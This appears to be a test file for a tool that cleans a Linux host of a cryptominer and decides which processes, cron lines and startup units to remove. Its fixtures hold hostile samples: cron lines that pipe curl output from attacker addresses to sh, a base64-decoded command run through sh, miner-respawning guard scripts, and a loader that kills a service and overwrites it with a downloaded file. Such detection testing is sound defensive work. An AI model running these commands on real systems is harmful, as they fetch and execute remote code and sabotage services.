import { describe, expect, it } from 'vitest';
import { LOADER } from '../../../test/shared/infected-snapshot.ts';
import type { ProcessInput } from '../../../test/shared/snapshots.ts';
import {
  autostart,
  cleanSnapshot,
  crontab,
  elf,
  file,
  hashOf,
  identityOf,
  image,
  process,
} from '../../../test/shared/snapshots.ts';
import type { Written } from '../../../test/shared/written.ts';
import { surveyed } from '../../../test/shared/written.ts';
import type { PersistenceEntry, Snapshot } from '../../snapshot.ts';
import { linksOf, listening, MINING, minedHost, minerImage, ticked } from '../mined-host.fixture.ts';
import { processIdentity } from '../process-identity.ts';
import { sceneOf } from '../scene.ts';

/** A confirmed miner with the bytes of its image. */
const host = ({ exe = '/tmp/m', ...miner }: Partial<ProcessInput>, more: Written<Partial<Snapshot>> = {}) =>
  minedHost({ ...miner, exe }, { ...more, files: [minerImage(exe), ...(more.files ?? [])] });

describe('a guard script', () => {
  const text =
    '#!/bin/sh\nwhile true; do\n  pgrep -f /tmp/m >/dev/null || nohup /tmp/m >/dev/null 2>&1 &\n  sleep 1\ndone\n';
  const guard = process({ pid: 899, exe: '/usr/bin/dash', argv: ['/bin/sh', '/opt/.x/watch.sh'] });
  const sleep = process({ pid: 905, ppid: 899, exe: '/usr/bin/sleep', argv: ['sleep', '1'] });
  it('is ticked with its file; its sleep, which is gone in a second, is covered', () => {
    const snapshot = host(
      { ppid: 899 },
      { processes: [guard, sleep], files: [file('/opt/.x/watch.sh', text)] },
    );
    expect(ticked(snapshot)).toMatchObject({ processes: [899, 900], files: ['/opt/.x/watch.sh', '/tmp/m'] });
    expect(linksOf(snapshot).covered).toEqual([{ pid: 905, by: 899 }]);
  });
  it('that also starts something of the host’s is not, and says what would end with it', () => {
    const more = file('/opt/.x/watch.sh', `${text}/opt/shop/server &\n`);
    const shop = process({ pid: 906, ppid: 899, exe: '/opt/shop/server' });
    const snapshot = host({ ppid: 899 }, { processes: [guard, sleep, shop], files: [more] });
    expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/m'] });
    expect(linksOf(snapshot).files.find((f) => f.path === '/opt/.x/watch.sh')).toMatchObject({
      linked: true,
      lines: [3, 6],
      caution: 'It starts something else too: /opt/shop/server.',
    });
  });
});

describe('the way in', () => {
  it('is a web application, run as a script that no package owns: never ticked, its script never offered', () => {
    const app = process({
      pid: 899,
      exe: '/usr/bin/python3.11',
      argv: ['python3', '/srv/app/app.py'],
      cgroup: '/system.slice/app.service',
    });
    const text =
      '#!/usr/bin/env python3\nimport os, http.server\ndef run(c):\n    return os.popen(c).read()\n';
    const snapshot = host(
      { ppid: 899 },
      { processes: [app], files: [file('/srv/app/app.py', text)], sockets: [listening(899)] },
    );
    const links = linksOf(snapshot);
    expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/m'] });
    expect(links.files.map((f) => f.path)).toEqual(['/tmp/m']);
    expect(links.processes.find((p) => p.pid === 899)).toMatchObject({
      role: 'parent',
      selected: false,
      linked: false,
    });
    expect(links.waysIn).toMatchObject([{ pid: 899, open: true }]);
  });
  it('is named by the control group where the parent is gone', () => {
    const service = process({
      pid: 899,
      exe: '/opt/tomcat/bin/java',
      cgroup: '/system.slice/tomcat.service',
      startTicks: '5',
    });
    const links = linksOf(
      host({ ppid: 1, cgroup: '/system.slice/tomcat.service' }, { processes: [service] }),
    );
    expect(links.waysIn).toEqual([{ pid: null, name: 'tomcat.service', open: true }]);
    expect(links.processes.map((p) => p.pid)).toEqual([900]);
  });
  it('is an application whose worker started the miner, also where that worker listens nowhere', () => {
    const master = process({ pid: 898, exe: '/opt/app/server', cgroup: '/system.slice/app.service' });
    const worker = process({
      pid: 899,
      ppid: 898,
      exe: '/opt/app/server',
      cgroup: '/system.slice/app.service',
    });
    const links = linksOf(host({ ppid: 899 }, { processes: [master, worker], sockets: [listening(898)] }));
    expect(links.processes.filter((p) => p.selected).map((p) => p.pid)).toEqual([900]);
  });
});

it('one line added to a shop’s start script: neither script, shell nor shop is ticked, the line is told', () => {
  const start = '#!/bin/sh\ncd /srv/shop\n./bin/shop --port 80 &\n/tmp/m -q &\nwait\n';
  const shell = process({
    pid: 898,
    exe: '/usr/bin/dash',
    argv: ['/bin/sh', '/srv/shop/start.sh'],
    cgroup: '/system.slice/shop.service',
  });
  const shop = process({
    pid: 897,
    ppid: 898,
    exe: '/srv/shop/bin/shop',
    cgroup: '/system.slice/shop.service',
  });
  const unit = autostart('/etc/systemd/system/shop.service', '[Service]\nExecStart=/srv/shop/start.sh\n');
  const snapshot = host(
    { ppid: 898 },
    {
      processes: [shell, shop],
      files: [file('/srv/shop/start.sh', start)],
      persistence: [unit],
      sockets: [listening(897)],
    },
  );
  expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
  const script = linksOf(snapshot).files.find((f) => f.path === '/srv/shop/start.sh');
  expect(script).toMatchObject({ linked: true, selected: false });
  expect(script?.lines).toContain(4);
  expect(linksOf(snapshot).persistence).toMatchObject([
    { path: '/etc/systemd/system/shop.service', linked: true, selected: false },
  ]);
});

it('a miner script under a copy of the shop’s own interpreter: the script is ticked, neither interpreter is', () => {
  const sha256 = hashOf('the shop’s python');
  const shop = process({
    pid: 700,
    exe: '/opt/shop/bin/python3',
    argv: ['python3', '/opt/shop/app.py'],
    image: { package: null, sha256 },
  });
  const snapshot = host(
    {
      exe: '/tmp/.x/kworker',
      argv: ['/tmp/.x/kworker', '/tmp/.x/m.py', ...MINING],
      image: { package: null, sha256 },
    },
    { processes: [shop], files: [file('/tmp/.x/m.py', '#!/usr/bin/env python3\nimport socket\n')] },
  );
  expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/.x/m.py'] });
  expect(linksOf(snapshot).files.some((f) => /^\/opt\/shop/.test(f.path))).toBe(false);
});

describe('cron', () => {
  const lines = (...text: string[]) => [crontab('/var/spool/cron/crontabs/root', text)];
  const line = (text: string) => linksOf(host({}, { cronFiles: lines(text) })).cronLines;
  it('a line that fetches from a bare public address is ticked, also with a carriage return and a comment', () => {
    expect(
      line(`* * * * * curl -fsSL http://203.0.113.20:8443/i.sh|sh;\r# nothing to see here`),
    ).toMatchObject([{ selected: true, linked: false }]);
    expect(line('* * * * * curl -fsSL http://0xCB007114:8443/i.sh | sh')).toMatchObject([{ selected: true }]);
  });
  it('one from the company’s own network, by name, or with TLS is not', () => {
    expect(line('* * * * * curl -fsSL http://192.0.2.80/deploy.sh | sh')).toMatchObject([
      { selected: false },
    ]);
    expect(line('* * * * * curl -fsSL http://10.1.2.3/deploy.sh | sh')).toMatchObject([{ selected: false }]);
    expect(line('* * * * * curl -fsSL https://deploy.corp.example/sync.sh | sh')).toMatchObject([
      { selected: false },
    ]);
  });
  it('one that starts what is not there, beside what it fetches, starts nothing else; what is there counts', () => {
    const text = '* * * * * curl -fsSL http://203.0.113.20/i.sh | sh; /tmp/.gone/x';
    expect(line(text)).toMatchObject([{ selected: true }]);
    const there = host({}, { cronFiles: lines(text), files: [elf('/tmp/.gone/x')] });
    expect(linksOf(there).cronLines).toMatchObject([{ selected: false }]);
  });
  it('one that asks for the miner first is linked by that; a name that others bear links nothing', () => {
    const asks = '* * * * * pgrep -f m4x >/dev/null || curl -fsSL https://cdn.example/x | sh';
    const of = (more: Written<Partial<Snapshot>> = {}) =>
      linksOf(host({ exe: '/tmp/m4x' }, { cronFiles: lines(asks), ...more })).cronLines;
    expect(of()).toMatchObject([{ selected: true, linked: true }]);
    expect(of({ processes: [process({ pid: 901, exe: '/opt/app/m4x' })] })).toMatchObject([
      { selected: false, linked: false },
    ]);
  });
  it('one that does something else as well is linked and not ticked', () => {
    expect(line('@daily /opt/backup/run.sh; /tmp/m -q')).toMatchObject([{ linked: true, selected: false }]);
    expect(line('@daily cd /tmp && ./m -q; sleep 1; rm -f /tmp/x')).toMatchObject([
      { linked: true, selected: true },
    ]);
  });
  it('one that decodes what it runs is read through', () => {
    expect(line(`* * * * * echo ${btoa('/tmp/m -q')} | base64 -d | sh`)).toMatchObject([
      { linked: true, selected: true },
    ]);
  });
});

it('a file in cron.d of which every line is the attacker’s goes whole; a package’s, and one with more in it, does not', () => {
  const path = '/etc/cron.d/0update';
  const of = (lines: string[], owner: string | null) => {
    const cronFiles = [crontab(path, ['# update', 'SHELL=/bin/sh', ...lines], 'cron.d')];
    const { starters } = ticked(
      host({}, { cronFiles, files: [file(path, lines.join('\n'), { package: owner })] }),
    );
    return starters;
  };
  const mine = ['* * * * * root /tmp/m -q', '@reboot root cd /tmp && ./m'];
  expect(of(mine, null)).toEqual([path]);
  expect(of(mine, 'cron')).toEqual([`${path} 3`, `${path} 4`]);
  expect(of([...mine, '@daily root /opt/backup/run'], null)).toEqual([`${path} 3`, `${path} 4`]);
});

describe('other starters', () => {
  const of = (...persistence: PersistenceEntry[]) =>
    linksOf(host({}, { persistence })).persistence.map((p) => [p.path, p.selected]);
  it('a unit or an rc line that ends with the path is linked', () => {
    expect(of(autostart('/etc/systemd/system/a.service', '[Service]\nExecStart=/tmp/m\n'))).toEqual([
      ['/etc/systemd/system/a.service', true],
    ]);
    expect(of(autostart('/etc/rc.local', '#!/bin/sh\n/tmp/m\nexit 0\n'))).toEqual([['/etc/rc.local', true]]);
    expect(of(autostart('/root/.bashrc', 'nohup ~/../tmp/m >/dev/null 2>&1 &'))).toEqual([
      ['/root/.bashrc', true],
    ]);
  });
  it('prefixes, timers and links are seen through; what only names it is not linked', () => {
    const service = autostart('/etc/systemd/system/a.service', '[Service]\nExecStart=-@/tmp/m m -q\n');
    const timer = autostart('/etc/systemd/system/a.timer', '[Timer]\nOnCalendar=hourly\n');
    const wants = autostart(
      '/etc/systemd/system/multi-user.target.wants/a.service',
      '/etc/systemd/system/a.service',
      { type: 'link' },
    );
    const scan = autostart(
      '/etc/systemd/system/scan.service',
      '[Service]\nExecStart=/opt/scan/run --remove /tmp/m\nConditionPathExists=/tmp/m\n',
    );
    expect(of(service, timer, wants)).toEqual([
      [service.path, true],
      [timer.path, true],
      [wants.path, true],
    ]);
    expect(of(scan)).toEqual([[scan.path, false]]);
  });
});

describe('names are not trusted', () => {
  it.each(['crond', 'sshd', 'systemd', 'tmux', 'init', 'java'])(
    'a guard that is called %s is a guard',
    (name) => {
      const guard = process({ pid: 899, exe: `/tmp/.x/${name}` });
      expect(
        ticked(host({ ppid: 899 }, { processes: [guard], files: [elf(`/tmp/.x/${name}`)] })),
      ).toMatchObject({ processes: [899, 900] });
    },
  );
  it('a miner mounted over a package’s program is no package’s', () => {
    const mounted = image('/usr/sbin/cron', {
      device: '64',
      inode: '77',
      package: 'cron',
      sha256: hashOf('m'),
    });
    const there = file('/usr/sbin/cron', 'the real one', { package: 'cron' });
    const from = elf('/var/lib/.c/cron', 'mining.subscribe mining.authorize', {
      sha256: hashOf('m'),
      identity: identityOf('/x', 1, { device: '64', inode: '77' }),
    });
    const snapshot = host({ exe: '/usr/sbin/cron', image: mounted }, {});
    expect(ticked({ ...snapshot, files: [there, from] }).files).toEqual(['/var/lib/.c/cron']);
  });
});

describe('what the attacker writes steers nothing', () => {
  it('a loader that kills, tests and overwrites strangers’ programs ticks none of them', () => {
    const daemon = process({
      pid: 701,
      exe: '/usr/bin/dash',
      argv: ['sh', '/run/payments/daemon.sh'],
      cgroup: '/system.slice/payments.service',
    });
    const build = process({ pid: 702, exe: '/tmp/build-4711/compile' });
    const psql = process({ pid: 703, ppid: 701, exe: '/usr/bin/psql' });
    const loader = `#!/bin/sh\npkill -f /run/payments/daemon.sh\ntest -x /tmp/build-4711/compile && rm -f /tmp/build-4711/compile\ncurl http://${LOADER}:8443/x -o /run/payments/daemon.sh\n/tmp/m &\n`;
    const snapshot = host(
      {},
      {
        processes: [daemon, build, psql],
        files: [
          file('/tmp/i.sh', loader),
          file('/run/payments/daemon.sh', '#!/bin/sh\npsql -c x\n'),
          elf('/tmp/build-4711/compile'),
        ],
      },
    );
    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/i.sh', '/tmp/m'], starters: [] });
  });
});

describe('a miner with the name of a program that serves many', () => {
  it.each(['node', 'python3', 'java', 'crond'])(
    '%s, outside the folders of packages, is a miner like any other',
    (name) => {
      const exe = `/home/web/app/${name}`;
      const snapshot = host(
        { exe },
        { cronFiles: [crontab('/etc/cron.d/x', [`* * * * * root ${exe}`], 'cron.d')] },
      );
      expect(ticked(snapshot)).toMatchObject({ processes: [900], files: [exe] });
      expect(ticked(snapshot).starters).not.toEqual([]);
    },
  );
  it('leaves an interpreter of one’s own what it is, which runs somebody’s script', () => {
    const exe = '/home/web/app/python3';
    const app = process({ pid: 910, exe, argv: [exe, '/home/web/app/main.py'] });
    const snapshot = host(
      {},
      { processes: [app], files: [elf(exe, 'Python 3.11'), file('/home/web/app/main.py', 'print(1)')] },
    );
    expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/m'] });
  });
});

describe('texts are read as the host has them', () => {
  it('a job of at, whose text has tabs of its own before the command', () => {
    const job = '/var/spool/cron/atjobs/a0000201f0a0b0';
    const lines = [
      '#!/bin/sh',
      'umask 22',
      'cd /root || {',
      "\t echo 'inaccessible' >&2",
      '\t exit 1',
      '}',
      '/tmp/m',
    ];
    const snapshot = host(
      {},
      { cronFiles: [crontab(job, lines, 'at')], files: [file(job, lines.join('\n'))] },
    );
    expect(ticked(snapshot).starters).toEqual([job]);
  });
  it('a unit of an account’s own, which says the account’s folders by specifiers', () => {
    const home = '/home/deploy';
    const accounts = [
      ...cleanSnapshot().host.accounts,
      { name: 'deploy', uid: 1001, gid: 1001, home, shell: '/bin/bash' },
    ];
    const unit = `${home}/.config/systemd/user/gvfs.service`;
    const of = (line: string) => {
      const snapshot = host(
        { exe: `${home}/.local/m` },
        { persistence: [autostart(unit, `[Service]\nExecStart=${line}\n`)] },
      );
      return ticked(surveyed<Snapshot>({ ...snapshot, host: { ...snapshot.host, accounts } })).starters;
    };
    expect(of('%h/.local/m')).toEqual([unit]);
    expect(of('/bin/sh -c "exec %h/.local/%%/../m"')).toEqual([unit]);
    expect(of('%h/.local/other')).toEqual([]);
  });
});

describe('all processes of an image are named by it', () => {
  const identityOfMiner = (snapshot: Snapshot) => {
    const links = linksOf(snapshot);
    const link = links.processes.find(({ pid }) => pid === 900);
    return link === undefined ? undefined : processIdentity(sceneOf(snapshot), links, link)?.by;
  };
  it('with the forks of a guard that are about to be the next sleep', () => {
    const fork = process({ pid: 905, ppid: 900, exe: '/tmp/m', argv: ['/tmp/m'] });
    expect(identityOfMiner(host({}, { processes: [fork] }))).toBe('image');
  });
  it('but not a miner that is mounted over the program of a service, which runs from that path', () => {
    const mounted = image('/tmp/m', { path: '/usr/sbin/cron' });
    const init = autostart('/etc/init.d/cron', '#!/bin/sh\n/usr/sbin/cron\n');
    const snapshot = host({ image: mounted }, { persistence: [init] });
    expect(
      linksOf({ ...snapshot, files: [...snapshot.files, file('/usr/sbin/cron', 'cron')] }).persistence,
    ).toEqual([]);
    expect(identityOfMiner({ ...snapshot, files: [...snapshot.files, file('/usr/sbin/cron', 'cron')] })).toBe(
      'single',
    );
  });
});
